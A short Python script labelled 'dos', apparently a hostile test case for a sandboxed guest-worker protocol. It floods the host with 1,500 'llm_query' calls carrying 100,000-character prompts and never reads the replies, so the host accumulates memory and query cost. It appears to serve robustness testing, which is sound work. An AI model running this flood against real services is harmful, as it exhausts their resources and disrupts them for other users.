# class: dos
# Makes 1,500 calls for long replies and never reads one, so that the host holds the replies.
import os
from guest.worker.msgpack import pack
for i in range(1500):
    b=pack({"op":"call","id":10**6+i,"function":"llm_query","arguments":{"prompt":"x"*100_000,"model":None}}); b=len(b).to_bytes(4,"little")+b
    while b: b=b[os.write(3,b):]
